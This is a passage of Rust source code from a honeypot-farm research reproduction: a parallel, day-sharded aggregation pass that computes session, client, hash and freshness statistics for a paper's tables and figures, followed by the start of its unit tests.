        write("fig13_days_ecdf.tsv", self.fig13.to_tsv())?;
        write("fig14_clients_per_honeypot.tsv", self.fig14.to_tsv())?;
        write("fig15_multirole.tsv", self.fig15.to_tsv())?;
        write("fig16_24_regional.tsv", self.fig16.to_tsv())?;
        write("fig17_freshness.tsv", self.fig17.to_tsv())?;
        write("fig18_19_hashes_per_honeypot.tsv", self.fig18.to_tsv())?;
        write("fig20_clients_per_hash.tsv", self.fig20.to_tsv())?;
        write("fig21_hashes_per_client.tsv", self.fig21.to_tsv())?;
        write("fig22_campaign_length.tsv", self.fig22.to_tsv())?;
        write("summary.md", self.summary())?;
        Ok(())
    }

    /// Human-readable summary of the headline tables.
    pub fn summary(&self) -> String {
        format!(
            "# Honeyfarm reproduction report\n\n## Table 1\n{}\n## Table 2\n{}\n## Table 4 (top hashes by sessions)\n{}\n## Fig. 2\n{}\n",
            self.table1, self.table2, self.table4, self.fig2
        )
    }
}
