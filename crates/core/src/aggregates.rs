//! One streaming pass over the session store computing every grouping the
//! paper's tables and figures need.
//!
//! The dataset can hold millions of sessions, so the pass is engineered to
//! touch each row once, keep per-entity state in dense arrays keyed by
//! interned ids, and process day-grouped state (daily unique clients,
//! freshness, regional diversity) with a flush at each day boundary.
//!
//! # Parallelism model
//!
//! [`Aggregates`] is an *associative partial state*: two aggregates computed
//! over day-disjoint row ranges combine exactly with [`Aggregates::merge`],
//! the same discipline as `TagDb::merge` in the parallel simulation engine.
//! [`Aggregates::compute_threaded`] shards the store into contiguous
//! **day-aligned** row ranges (`SessionStore::day_aligned_ranges`), folds
//! each range on its own scoped worker, then merges the partial states in
//! shard order. Day alignment is the invariant that makes the merge exact:
//!
//! * per-day matrices and counters occupy disjoint day slots across shards,
//!   so elementwise addition is a disjoint union;
//! * per-entity "distinct active days" counts add, because an entity's days
//!   in different shards are different days;
//! * a hash's first sighting is the first shard's first sighting, and the
//!   later shard's first-sighting credit is retracted during the merge;
//! * the freshness series needs cross-shard sliding windows, so shards
//!   record their per-day-unique `(day, hash)` observations and the merge
//!   replays them — in shard order, which is day order — through one serial
//!   [`FreshnessSeries`].
//!
//! The merge order is fixed (shard index), so the result is bit-identical
//! for any thread count, including `threads = 1`.
//!
//! # Out-of-core folding
//!
//! The same algebra powers the streaming path: [`StreamingFold`] wraps one
//! shard fold whose day-indexed vectors grow as days appear, so the sim
//! runner (or a chunked snapshot reader) can ingest each completed day and
//! retire its rows immediately. Freshness is drained incrementally at day
//! boundaries through the same serial [`FreshnessSeries`] replay, making
//! the finished state bit-identical to a materialized
//! [`Aggregates::compute`] over the concatenated rows.
//!
//! # Overflow discipline
//!
//! Whole-run totals are `u64`. The `u32` accumulators that remain are all
//! bounded by something much smaller than a scale-1.0 run's 402 M sessions:
//! per-`(day, honeypot)` and per-day cells (no single day slot can absorb
//! the whole run thanks to day-aligned sharding), per-entity distinct-day
//! counts (≤ the 486-day window), and per-honeypot first-sighting counts
//! (≤ the digest pool size, capped at 2³¹). [`Aggregates::merge`] still
//! refuses to wrap: every `u32` cell add is `checked_add` and the
//! first-sighting retraction is `checked_sub`, so a hypothetical overflow
//! panics loudly instead of corrupting totals silently.

use hf_farm::{Dataset, FarmPlan, SessionView};
use hf_geo::World;
use hf_honeypot::EndReason;
use hf_proto::Protocol;

use crate::classify::{classify, Category};
use crate::idhash::{IdMap, IdSet};
use crate::metrics::freshness::{FreshnessPoint, FreshnessSeries};

/// Bitset over honeypots (the farm has 221 ≤ 256 nodes).
pub type HpBitset = [u64; 4];

/// Set a bit. Public so other per-client folds (the clustering feature
/// extractor) can share the farm-sized bitset type and its helpers.
pub fn bit_set(b: &mut HpBitset, i: u16) {
    b[(i >> 6) as usize] |= 1u64 << (i & 63);
}

/// Union `other` into `b`.
pub fn bit_union(b: &mut HpBitset, other: &HpBitset) {
    for (w, o) in b.iter_mut().zip(other) {
        *w |= *o;
    }
}

/// Count set bits.
pub fn bit_count(b: &HpBitset) -> u32 {
    b.iter().map(|w| w.count_ones()).sum()
}

/// Per-client accumulated state.
#[derive(Clone)]
pub struct ClientAgg {
    /// Honeypots contacted, overall and per category.
    pub honeypots: HpBitset,
    /// Per-category honeypot sets (Fig. 12's per-category ECDFs).
    pub honeypots_by_cat: [HpBitset; 5],
    /// Distinct active days, overall and per category (Fig. 13).
    pub days: u32,
    pub days_by_cat: [u32; 5],
    /// Last day counted, overall and per category (`u32::MAX` = none yet).
    /// Fold internals, public so differential oracles can compare them.
    pub last_day: u32,
    pub last_day_by_cat: [u32; 5],
    /// Categories this client ever appeared in (bitmask by Category index).
    pub cats: u8,
    /// Sessions by this client.
    pub sessions: u64,
    /// Distinct hashes this client produced (Fig. 21).
    pub hashes: IdSet,
    /// Client country (u16::MAX = unknown).
    pub country: u16,
}

impl Default for ClientAgg {
    fn default() -> Self {
        ClientAgg {
            honeypots: [0; 4],
            honeypots_by_cat: [[0; 4]; 5],
            days: 0,
            days_by_cat: [0; 5],
            last_day: u32::MAX,
            last_day_by_cat: [u32::MAX; 5],
            cats: 0,
            sessions: 0,
            hashes: IdSet::default(),
            country: u16::MAX,
        }
    }
}

impl ClientAgg {
    /// Fold in the same client's partial state from the next day-disjoint
    /// shard. Distinct-day counts add exactly because the shards' day
    /// ranges are disjoint; the country keeps the earlier shard's first
    /// sighting (first-wins, like the serial pass).
    fn merge(&mut self, other: ClientAgg) {
        bit_union(&mut self.honeypots, &other.honeypots);
        for (b, o) in self
            .honeypots_by_cat
            .iter_mut()
            .zip(&other.honeypots_by_cat)
        {
            bit_union(b, o);
        }
        self.days += other.days;
        self.last_day = other.last_day;
        for ci in 0..5 {
            self.days_by_cat[ci] += other.days_by_cat[ci];
            if other.last_day_by_cat[ci] != u32::MAX {
                self.last_day_by_cat[ci] = other.last_day_by_cat[ci];
            }
        }
        self.cats |= other.cats;
        self.sessions += other.sessions;
        self.hashes.extend(other.hashes);
        if self.country == u16::MAX {
            self.country = other.country;
        }
    }
}

/// Per-hash accumulated state.
#[derive(Clone)]
pub struct HashAgg {
    /// Sessions containing this hash.
    pub sessions: u64,
    /// Distinct client IPs.
    pub clients: IdSet,
    /// Distinct active days.
    pub days: u32,
    /// Last day counted (`u32::MAX` = none yet). Fold internal, public for
    /// the differential oracles.
    pub last_day: u32,
    /// First day observed.
    pub first_day: u32,
    /// Honeypot that observed it first.
    pub first_honeypot: u16,
    /// Honeypots that ever observed it.
    pub honeypots: HpBitset,
}

impl Default for HashAgg {
    fn default() -> Self {
        HashAgg {
            sessions: 0,
            clients: IdSet::default(),
            days: 0,
            last_day: u32::MAX,
            first_day: u32::MAX,
            first_honeypot: u16::MAX,
            honeypots: [0; 4],
        }
    }
}

/// Daily state that flushes at day boundaries.
#[derive(Default)]
struct DayState {
    /// ip → category bitmask seen today.
    client_cats: IdMap<u8>,
    /// ip → (overall relation mask, per-category relation masks).
    client_regions: IdMap<[u8; 6]>,
}

/// Everything computed by the pass.
pub struct Aggregates {
    /// Days covered (max session day + 1).
    pub n_days: u32,
    /// Honeypot count.
    pub n_honeypots: usize,
    /// Sessions per (day × honeypot), row-major by day.
    pub day_hp_sessions: Vec<u32>,
    /// Same, per category.
    pub day_hp_by_cat: [Vec<u32>; 5],
    /// Total sessions per day.
    pub day_total: Vec<u64>,
    /// Sessions per day per category.
    pub day_by_cat: [Vec<u64>; 5],
    /// Daily unique client IPs per category (Fig. 11) + overall (index 5).
    pub day_unique_ips: Vec<[u32; 6]>,
    /// Daily counts of clients per category-combination bitmask over
    /// {NO_CRED, FAIL_LOG, CMD} (Fig. 15): index = bitmask (1..=7).
    pub day_combo_clients: Vec<[u32; 8]>,
    /// Daily counts of clients per regional-relation combination, for
    /// overall (index 0) and each category (1..=5). Relation mask bits:
    /// 1 = same country, 2 = same continent, 4 = different continent.
    pub day_region_combos: Vec<[[u32; 8]; 6]>,
    /// Category totals (Table 1).
    pub cat_totals: [u64; 5],
    /// SSH sessions per category (Table 1's protocol split).
    pub cat_ssh: [u64; 5],
    /// End reasons per category: [client, timeout, auth-limit].
    pub cat_end_reasons: [[u64; 3]; 5],
    /// Session duration histogram per category, seconds 0..=600 (cap).
    pub dur_hist: [Vec<u64>; 5],
    /// Sessions per honeypot.
    pub hp_sessions: Vec<u64>,
    /// Distinct clients per honeypot, overall.
    pub hp_clients: Vec<IdSet>,
    /// Distinct clients per honeypot per category.
    pub hp_clients_by_cat: Vec<[IdSet; 5]>,
    /// Distinct hashes per honeypot (Fig. 18/19).
    pub hp_hashes: Vec<IdSet>,
    /// Hashes first seen at each honeypot (early-observer analysis).
    pub hp_first_hashes: Vec<u32>,
    /// Per-client aggregates keyed by IP.
    pub clients: IdMap<ClientAgg>,
    /// Per-hash aggregates indexed by digest id.
    pub hashes: Vec<HashAgg>,
    /// Successful-login password counts (cred pool id → count).
    pub password_counts: IdMap<u64>,
    /// Command popularity (command pool id → count).
    pub command_counts: IdMap<u64>,
    /// SSH client version counts (pool id → count).
    pub ssh_version_counts: IdMap<u64>,
    /// Sessions that created/modified ≥1, ≥2, >10 files.
    pub file_sessions: (u64, u64, u64),
    /// Distinct client AS numbers observed (§7.1 breadth). Tracked here so
    /// row-free (fold-mode) outputs can still answer the claims table.
    pub asns: IdSet,
    /// Daily hash freshness (Fig. 17). Empty on partial (pre-merge) states;
    /// filled once by the final freshness replay.
    pub freshness: Vec<FreshnessPoint>,
    /// Total sessions.
    pub total_sessions: u64,
}

impl Aggregates {
    /// The identity element of [`Aggregates::merge`] for a given shape.
    fn empty(n_days: u32, n_honeypots: usize) -> Self {
        let nd = n_days as usize;
        Aggregates {
            n_days,
            n_honeypots,
            day_hp_sessions: vec![0; nd * n_honeypots],
            day_hp_by_cat: std::array::from_fn(|_| vec![0; nd * n_honeypots]),
            day_total: vec![0; nd],
            day_by_cat: std::array::from_fn(|_| vec![0; nd]),
            day_unique_ips: vec![[0; 6]; nd],
            day_combo_clients: vec![[0; 8]; nd],
            day_region_combos: vec![[[0; 8]; 6]; nd],
            cat_totals: [0; 5],
            cat_ssh: [0; 5],
            cat_end_reasons: [[0; 3]; 5],
            dur_hist: std::array::from_fn(|_| vec![0; 601]),
            hp_sessions: vec![0; n_honeypots],
            hp_clients: vec![IdSet::default(); n_honeypots],
            hp_clients_by_cat: (0..n_honeypots)
                .map(|_| std::array::from_fn(|_| IdSet::default()))
                .collect(),
            hp_hashes: vec![IdSet::default(); n_honeypots],
            hp_first_hashes: vec![0; n_honeypots],
            clients: IdMap::default(),
            hashes: Vec::new(),
            password_counts: IdMap::default(),
            command_counts: IdMap::default(),
            ssh_version_counts: IdMap::default(),
            file_sessions: (0, 0, 0),
            asns: IdSet::default(),
            freshness: Vec::new(),
            total_sessions: 0,
        }
    }

    /// Extend every day-indexed vector to cover `n_days` (append-only:
    /// existing day slots keep their values). The streaming fold grows its
    /// window as days appear instead of pre-scanning for the maximum day.
    fn grow_days(&mut self, n_days: u32) {
        if n_days <= self.n_days {
            return;
        }
        let nd = n_days as usize;
        self.day_hp_sessions.resize(nd * self.n_honeypots, 0);
        for v in &mut self.day_hp_by_cat {
            v.resize(nd * self.n_honeypots, 0);
        }
        self.day_total.resize(nd, 0);
        for v in &mut self.day_by_cat {
            v.resize(nd, 0);
        }
        self.day_unique_ips.resize(nd, [0; 6]);
        self.day_combo_clients.resize(nd, [0; 8]);
        self.day_region_combos.resize(nd, [[0; 8]; 6]);
        self.n_days = n_days;
    }

    /// Run the pass serially (equivalent to `compute_threaded(dataset, 1)`).
    pub fn compute(dataset: &Dataset) -> Self {
        Self::compute_threaded(dataset, 1)
    }

    /// Run the pass across `threads` scoped workers over day-aligned row
    /// shards with an ordered merge. Bit-identical output for every thread
    /// count — see the module docs for the argument.
    pub fn compute_threaded(dataset: &Dataset, threads: usize) -> Self {
        let _span = hf_obs::span!("analysis.aggregates");
        let store = &dataset.sessions;
        let n_honeypots = dataset.plan.len();
        let n_days = store
            .iter()
            .map(|v| v.day())
            .max()
            .map(|d| d + 1)
            .unwrap_or(1);

        // Day-grouped streaming state needs day-ordered rows. Collector
        // output always is; hand-built stores fall back to one serial fold
        // over a sorted order index.
        if !store.is_day_ordered() {
            hf_obs::counter!("analysis.shards_folded", 1);
            hf_obs::counter!("analysis.rows_folded", store.len() as u64);
            let _fold_span = hf_obs::span!("analysis.shard_fold");
            let mut order: Vec<u32> = (0..store.len() as u32).collect();
            order.sort_by_key(|&i| store.rows()[i as usize].start_secs);
            let mut fold = ShardFold::new(n_days, n_honeypots);
            for &idx in &order {
                fold.ingest(&dataset.plan, &store.view(idx as usize));
            }
            return Self::assemble(n_days, n_honeypots, vec![fold.finish()]);
        }

        let ranges = store.day_aligned_ranges(threads.max(1));
        let parts: Vec<(Aggregates, Vec<(u32, u32)>)> = if ranges.len() <= 1 {
            ranges
                .into_iter()
                .map(|r| {
                    hf_obs::counter!("analysis.shards_folded", 1);
                    hf_obs::counter!("analysis.rows_folded", r.len() as u64);
                    let _span = hf_obs::span!("analysis.shard_fold");
                    let mut fold = ShardFold::new(n_days, n_honeypots);
                    for v in store.iter_range(r) {
                        fold.ingest(&dataset.plan, &v);
                    }
                    fold.finish()
                })
                .collect()
        } else {
            std::thread::scope(|scope| {
                let handles: Vec<_> = ranges
                    .into_iter()
                    .map(|r| {
                        scope.spawn(move || {
                            // Fold, then flush this worker's metrics buffer
                            // before the thread exits (span drops first so
                            // its sample is included).
                            hf_obs::counter!("analysis.shards_folded", 1);
                            hf_obs::counter!("analysis.rows_folded", r.len() as u64);
                            let out = {
                                let _span = hf_obs::span!("analysis.shard_fold");
                                let mut fold = ShardFold::new(n_days, n_honeypots);
                                for v in store.iter_range(r) {
                                    fold.ingest(&dataset.plan, &v);
                                }
                                fold.finish()
                            };
                            hf_obs::flush();
                            out
                        })
                    })
                    .collect();
                // Joining in spawn order *is* the ordered merge. A shard
                // panic is re-raised with its original payload so the
                // failing assertion/message isn't masked by a join error.
                handles
                    .into_iter()
                    .map(|h| {
                        h.join()
                            .unwrap_or_else(|payload| std::panic::resume_unwind(payload))
                    })
                    .collect()
            })
        };
        Self::assemble(n_days, n_honeypots, parts)
    }

    /// Fold one contiguous, day-ordered row range into a partial state:
    /// the mergeable [`Aggregates`] plus the range's per-day-unique
    /// `(day, hash)` freshness sightings in observation order. Partials of
    /// consecutive day-disjoint ranges combine with [`Aggregates::merge`] /
    /// [`Aggregates::assemble`] — the building block the partition
    /// properties in `tests/streaming_analysis.rs` exercise directly.
    pub fn partial(
        dataset: &Dataset,
        range: std::ops::Range<usize>,
        n_days: u32,
    ) -> (Aggregates, Vec<(u32, u32)>) {
        let mut fold = ShardFold::new(n_days, dataset.plan.len());
        for v in dataset.sessions.iter_range(range) {
            fold.ingest(&dataset.plan, &v);
        }
        fold.finish()
    }

    /// Fold shard results in shard order and replay their freshness
    /// observations through one serial series.
    pub fn assemble(
        n_days: u32,
        n_honeypots: usize,
        parts: Vec<(Aggregates, Vec<(u32, u32)>)>,
    ) -> Self {
        let mut fresh = FreshnessSeries::new();
        let mut acc: Option<Aggregates> = None;
        for (part, pairs) in parts {
            // Shard order is day order, and each pair is a per-day-unique
            // first sighting, so this replays exactly the serial pass's
            // effective observation sequence.
            for (day, hid) in pairs {
                fresh.observe(hid, day);
            }
            acc = Some(match acc {
                None => part,
                Some(mut a) => {
                    a.merge(part);
                    a
                }
            });
        }
        let mut agg = acc.unwrap_or_else(|| Aggregates::empty(n_days, n_honeypots));
        agg.freshness = fresh.finish();
        agg
    }

    /// Merge `other` — the partial aggregates of the *next* contiguous,
    /// day-disjoint row shard — into `self`.
    ///
    /// Exactness contract: `other` must cover rows whose days are all
    /// strictly later than `self`'s (day-aligned sharding guarantees it).
    /// Then per-day slots are disjoint (addition = union), per-entity
    /// distinct-day counts add, first-sightings keep `self`'s, and
    /// last-sightings take `other`'s. Freshness is *not* merged here — it
    /// needs cross-shard window state and is replayed by the caller.
    pub fn merge(&mut self, other: Aggregates) {
        debug_assert_eq!(self.n_days, other.n_days);
        debug_assert_eq!(self.n_honeypots, other.n_honeypots);

        // u32 cells are per-day/per-honeypot and provably can't overflow at
        // paper scale (see the module's overflow discipline) — but a wrap
        // here would silently corrupt every downstream total, so refuse it.
        fn add_u32s(a: &mut [u32], b: &[u32]) {
            for (x, y) in a.iter_mut().zip(b) {
                *x = x.checked_add(*y).expect("u32 aggregate cell overflow");
            }
        }
        fn add_u64s(a: &mut [u64], b: &[u64]) {
            for (x, y) in a.iter_mut().zip(b) {
                *x += *y;
            }
        }

        add_u32s(&mut self.day_hp_sessions, &other.day_hp_sessions);
        for ci in 0..5 {
            add_u32s(&mut self.day_hp_by_cat[ci], &other.day_hp_by_cat[ci]);
        }
        add_u64s(&mut self.day_total, &other.day_total);
        for ci in 0..5 {
            add_u64s(&mut self.day_by_cat[ci], &other.day_by_cat[ci]);
        }
        for (a, b) in self.day_unique_ips.iter_mut().zip(&other.day_unique_ips) {
            add_u32s(a, b);
        }
        for (a, b) in self
            .day_combo_clients
            .iter_mut()
            .zip(&other.day_combo_clients)
        {
            add_u32s(a, b);
        }
        for (a, b) in self
            .day_region_combos
            .iter_mut()
            .zip(&other.day_region_combos)
        {
            for (x, y) in a.iter_mut().zip(b) {
                add_u32s(x, y);
            }
        }
        for ci in 0..5 {
            self.cat_totals[ci] += other.cat_totals[ci];
            self.cat_ssh[ci] += other.cat_ssh[ci];
            add_u64s(&mut self.cat_end_reasons[ci], &other.cat_end_reasons[ci]);
            add_u64s(&mut self.dur_hist[ci], &other.dur_hist[ci]);
        }
        add_u64s(&mut self.hp_sessions, &other.hp_sessions);
        for (a, b) in self.hp_clients.iter_mut().zip(other.hp_clients) {
            a.extend(b);
        }
        for (a, b) in self
            .hp_clients_by_cat
            .iter_mut()
            .zip(other.hp_clients_by_cat)
        {
            for (x, y) in a.iter_mut().zip(b) {
                x.extend(y);
            }
        }
        for (a, b) in self.hp_hashes.iter_mut().zip(other.hp_hashes) {
            a.extend(b);
        }
        add_u32s(&mut self.hp_first_hashes, &other.hp_first_hashes);

        for (ip, c) in other.clients {
            match self.clients.entry(ip) {
                std::collections::hash_map::Entry::Vacant(e) => {
                    e.insert(c);
                }
                std::collections::hash_map::Entry::Occupied(mut e) => e.get_mut().merge(c),
            }
        }

        if self.hashes.len() < other.hashes.len() {
            self.hashes.resize(other.hashes.len(), HashAgg::default());
        }
        for (hid, h) in other.hashes.into_iter().enumerate() {
            if h.sessions == 0 {
                continue;
            }
            let a = &mut self.hashes[hid];
            if a.sessions == 0 {
                *a = h;
                continue;
            }
            // Both shards sighted this hash: the earlier shard's first
            // sighting stands, so retract the later shard's credit (the
            // blind add of hp_first_hashes above counted both).
            self.hp_first_hashes[h.first_honeypot as usize] = self.hp_first_hashes
                [h.first_honeypot as usize]
                .checked_sub(1)
                .expect("first-sighting retraction underflow");
            a.sessions += h.sessions;
            a.clients.extend(h.clients);
            a.days += h.days;
            a.last_day = h.last_day;
            bit_union(&mut a.honeypots, &h.honeypots);
        }

        for (k, v) in other.password_counts {
            *self.password_counts.entry(k).or_default() += v;
        }
        for (k, v) in other.command_counts {
            *self.command_counts.entry(k).or_default() += v;
        }
        for (k, v) in other.ssh_version_counts {
            *self.ssh_version_counts.entry(k).or_default() += v;
        }
        self.file_sessions.0 += other.file_sessions.0;
        self.file_sessions.1 += other.file_sessions.1;
        self.file_sessions.2 += other.file_sessions.2;
        self.asns.extend(other.asns);
        self.total_sessions += other.total_sessions;
        debug_assert!(other.freshness.is_empty(), "merge partial states only");
    }

    fn flush_day(&mut self, day: u32, state: &mut DayState) {
        let d = day as usize;
        if d >= self.day_unique_ips.len() {
            state.client_cats.clear();
            state.client_regions.clear();
            return;
        }
        for (_, mask) in state.client_cats.iter() {
            // Per-category daily unique IPs.
            for ci in 0..5 {
                if mask & (1 << (ci + 3)) != 0 {
                    self.day_unique_ips[d][ci] += 1;
                }
            }
            self.day_unique_ips[d][5] += 1;
            // Combo over {NO_CRED, FAIL_LOG, CMD}.
            let combo = mask & 0b111;
            if combo != 0 {
                self.day_combo_clients[d][combo as usize] += 1;
            }
        }
        for (_, masks) in state.client_regions.iter() {
            for (slot, &m) in masks.iter().enumerate() {
                if m != 0 {
                    self.day_region_combos[d][slot][m as usize] += 1;
                }
            }
        }
        state.client_cats.clear();
        state.client_regions.clear();
    }

    /// Distinct client count.
    pub fn n_clients(&self) -> usize {
        self.clients.len()
    }

    /// Distinct hash count.
    pub fn n_hashes(&self) -> usize {
        self.hashes.iter().filter(|h| h.sessions > 0).count()
    }
}

/// The per-shard fold: a partial [`Aggregates`] plus the streaming state
/// that doesn't survive the shard boundary (day flush buffers, the per-day
/// freshness dedupe set, scratch).
struct ShardFold {
    agg: Aggregates,
    day_state: DayState,
    current_day: u32,
    /// Hashes already recorded for `current_day` (per-day dedupe of the
    /// freshness observations).
    fresh_seen: IdSet,
    /// Per-day-unique `(day, hash)` sightings, in observation order —
    /// replayed through the global [`FreshnessSeries`] after the merge.
    fresh_pairs: Vec<(u32, u32)>,
    /// Scratch for per-session hash dedupe.
    session_hashes: Vec<u32>,
}

impl ShardFold {
    fn new(n_days: u32, n_honeypots: usize) -> Self {
        ShardFold {
            agg: Aggregates::empty(n_days, n_honeypots),
            day_state: DayState::default(),
            current_day: 0,
            fresh_seen: IdSet::default(),
            fresh_pairs: Vec::new(),
            session_hashes: Vec::new(),
        }
    }

    /// Ingest one session. Rows must arrive in non-decreasing day order.
    /// `plan` resolves honeypot geography; everything else comes through
    /// the view's pools, so external row chunks (streamed snapshots,
    /// about-to-be-retired day shards) fold exactly like stored rows.
    fn ingest(&mut self, plan: &FarmPlan, v: &SessionView<'_>) {
        let day = v.day();
        if day != self.current_day {
            self.agg.flush_day(self.current_day, &mut self.day_state);
            self.fresh_seen.clear();
            self.current_day = day;
        }
        if day >= self.agg.n_days {
            // Fixed-shape folds (compute_threaded pre-scans the day span)
            // never hit this; the streaming fold starts at zero days and
            // grows one day at a time.
            self.agg.grow_days(day + 1);
        }

        let agg = &mut self.agg;
        let cat = classify(v);
        let ci = cat.index();
        let d = day as usize;
        let hp = v.honeypot();
        let ip = v.client_ip().0;

        agg.total_sessions += 1;

        // Volume matrices. The u32 day cells are bounded by sessions per
        // (day, honeypot); guard the wrap in debug so a pathological input
        // can't silently truncate (see the module's overflow discipline).
        debug_assert!(
            agg.day_hp_sessions[d * agg.n_honeypots + hp as usize] < u32::MAX,
            "day×honeypot session cell about to wrap"
        );
        agg.day_hp_sessions[d * agg.n_honeypots + hp as usize] += 1;
        agg.day_hp_by_cat[ci][d * agg.n_honeypots + hp as usize] += 1;
        agg.day_total[d] += 1;
        agg.day_by_cat[ci][d] += 1;
        agg.cat_totals[ci] += 1;
        if v.protocol() == Protocol::Ssh {
            agg.cat_ssh[ci] += 1;
        }
        let reason_idx = match v.ended_by() {
            EndReason::ClientClose => 0,
            EndReason::Timeout => 1,
            EndReason::AuthLimit => 2,
        };
        agg.cat_end_reasons[ci][reason_idx] += 1;
        let dur = (v.duration_secs() as usize).min(600);
        agg.dur_hist[ci][dur] += 1;

        // Per honeypot.
        agg.hp_sessions[hp as usize] += 1;
        agg.hp_clients[hp as usize].insert(ip);
        agg.hp_clients_by_cat[hp as usize][ci].insert(ip);

        // Per client.
        let client = agg.clients.entry(ip).or_default();
        client.sessions += 1;
        client.cats |= 1 << ci;
        bit_set(&mut client.honeypots, hp);
        bit_set(&mut client.honeypots_by_cat[ci], hp);
        if client.last_day != day {
            // works for first session because last_day starts at MAX
            client.days += 1;
            client.last_day = day;
        }
        if client.last_day_by_cat[ci] != day {
            client.days_by_cat[ci] += 1;
            client.last_day_by_cat[ci] = day;
        }
        if client.country == u16::MAX {
            if let Some(c) = v.client_country() {
                client.country = c.0;
            }
        }
        if let Some(asn) = v.client_asn() {
            agg.asns.insert(asn.0);
        }

        // Credentials / commands / ssh versions, counted by interned id.
        // Password counts: successful attempts only.
        for packed in v.login_packed() {
            if packed & 1 == 1 {
                *agg.password_counts.entry(packed >> 1).or_default() += 1;
            }
        }
        for packed in v.command_packed() {
            *agg.command_counts.entry(packed >> 1).or_default() += 1;
        }
        let vid = v.raw().ssh_version_id;
        if vid != u32::MAX {
            *agg.ssh_version_counts.entry(vid).or_default() += 1;
        }

        // Hashes.
        let session_hashes = &mut self.session_hashes;
        session_hashes.clear();
        session_hashes.extend_from_slice(v.hash_ids());
        session_hashes.extend_from_slice(v.download_hash_ids());
        session_hashes.sort_unstable();
        session_hashes.dedup();
        let n_files = v.hash_ids().len();
        if n_files >= 1 {
            agg.file_sessions.0 += 1;
        }
        if n_files >= 2 {
            agg.file_sessions.1 += 1;
        }
        if n_files > 10 {
            agg.file_sessions.2 += 1;
        }
        for &hid in session_hashes.iter() {
            if agg.hashes.len() <= hid as usize {
                agg.hashes.resize(hid as usize + 1, HashAgg::default());
            }
            let h = &mut agg.hashes[hid as usize];
            h.sessions += 1;
            h.clients.insert(ip);
            bit_set(&mut h.honeypots, hp);
            if h.last_day != day {
                h.days += 1;
                h.last_day = day;
            }
            if h.first_day == u32::MAX {
                h.first_day = day;
                h.first_honeypot = hp;
                agg.hp_first_hashes[hp as usize] += 1;
            }
            agg.hp_hashes[hp as usize].insert(hid);
            if self.fresh_seen.insert(hid) {
                self.fresh_pairs.push((day, hid));
            }
        }
        if !session_hashes.is_empty() {
            let client = agg.clients.entry(ip).or_default();
            client.hashes.extend(session_hashes.iter().copied());
        }

        // Daily per-client state.
        let combo_bit = match cat {
            Category::NoCred => Some(0u8),
            Category::FailLog => Some(1),
            Category::Cmd | Category::CmdUri => Some(2),
            Category::NoCmd => None,
        };
        let entry = self.day_state.client_cats.entry(ip).or_insert(0);
        if let Some(b) = combo_bit {
            *entry |= 1 << b;
        }
        *entry |= 1 << (ci + 3); // upper bits: any-category presence

        // Regional relation.
        if let Some(cc) = v.client_country() {
            let hp_country = plan.node(hp).country;
            let rel = World::region_relation(cc, hp_country);
            let bit = match rel {
                hf_geo::RegionRelation::SameCountry => 1u8,
                hf_geo::RegionRelation::SameContinent => 2,
                hf_geo::RegionRelation::DifferentContinent => 4,
            };
            let masks = self.day_state.client_regions.entry(ip).or_insert([0; 6]);
            masks[0] |= bit;
            masks[ci + 1] |= bit;
        }
    }

    /// Flush the trailing day and hand back the partial state.
    fn finish(mut self) -> (Aggregates, Vec<(u32, u32)>) {
        self.agg.flush_day(self.current_day, &mut self.day_state);
        (self.agg, self.fresh_pairs)
    }
}

/// Incremental out-of-core fold over day-ordered sessions.
///
/// One shard fold whose day window grows as days appear, plus the serial
/// [`FreshnessSeries`] fed at day boundaries — the pieces a fold-as-you-go
/// runner needs to ingest each completed day's rows and retire them, or a
/// streaming snapshot reader needs to fold verified chunks as they arrive.
/// Feeding the same rows in the same order as a materialized store yields
/// an [`Aggregates`] bit-identical to [`Aggregates::compute`].
pub struct StreamingFold {
    fold: ShardFold,
    fresh: FreshnessSeries,
}

impl StreamingFold {
    /// Empty fold for a farm of `n_honeypots` nodes. The day window starts
    /// at zero and grows with the data, so no day-count pre-scan is needed.
    pub fn new(n_honeypots: usize) -> Self {
        StreamingFold {
            fold: ShardFold::new(0, n_honeypots),
            fresh: FreshnessSeries::new(),
        }
    }

    /// Ingest one session view. Rows must arrive in non-decreasing day
    /// order across *all* ingest calls (the same contract as the serial
    /// pass). `plan` resolves honeypot geography.
    pub fn ingest(&mut self, plan: &FarmPlan, v: &SessionView<'_>) {
        self.fold.ingest(plan, v);
    }

    /// Drain the freshness sightings of every *completed* day (strictly
    /// before the fold's current day) into the sliding-window series, so
    /// the pending-pair buffer stays bounded by one day's unique hashes.
    /// Safe to call at any point; callers typically do so after each
    /// simulated day or each snapshot chunk.
    pub fn drain_freshness(&mut self) {
        let current = self.fold.current_day;
        let pairs = &mut self.fold.fresh_pairs;
        let cut = pairs
            .iter()
            .position(|&(day, _)| day >= current)
            .unwrap_or(pairs.len());
        for &(day, hid) in &pairs[..cut] {
            self.fresh.observe(hid, day);
        }
        pairs.drain(..cut);
    }

    /// Sessions folded so far.
    pub fn total_sessions(&self) -> u64 {
        self.fold.agg.total_sessions
    }

    /// Flush the trailing day, replay the remaining freshness sightings,
    /// and return the finished aggregates. An empty fold yields the same
    /// single-empty-day shape as [`Aggregates::compute`] on an empty store.
    pub fn finish(mut self) -> Aggregates {
        self.drain_freshness();
        let (mut agg, pairs) = self.fold.finish();
        for (day, hid) in pairs {
            self.fresh.observe(hid, day);
        }
        if agg.n_days == 0 {
            agg.grow_days(1);
        }
        agg.freshness = self.fresh.finish();
        agg
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hf_sim::{SimConfig, Simulation};

    fn small() -> Dataset {
        Simulation::run(SimConfig::test(10)).dataset
    }

    #[test]
    fn totals_are_consistent() {
        let ds = small();
        let agg = Aggregates::compute(&ds);
        assert_eq!(agg.total_sessions, ds.len() as u64);
        assert_eq!(agg.cat_totals.iter().sum::<u64>(), agg.total_sessions);
        assert_eq!(agg.day_total.iter().sum::<u64>(), agg.total_sessions);
        let matrix_sum: u64 = agg.day_hp_sessions.iter().map(|&c| c as u64).sum();
        assert_eq!(matrix_sum, agg.total_sessions);
        for ci in 0..5 {
            assert_eq!(
                agg.day_by_cat[ci].iter().sum::<u64>(),
                agg.cat_totals[ci],
                "category {ci}"
            );
            assert!(agg.cat_ssh[ci] <= agg.cat_totals[ci]);
        }
    }

    #[test]
    fn per_honeypot_sums_match() {
        let ds = small();
        let agg = Aggregates::compute(&ds);
        assert_eq!(agg.hp_sessions.iter().sum::<u64>(), agg.total_sessions);
        // Clients per honeypot never exceed total clients.
        for set in &agg.hp_clients {
            assert!(set.len() <= agg.n_clients());
        }
    }

    #[test]
    fn client_aggregates_consistent() {
        let ds = small();
        let agg = Aggregates::compute(&ds);
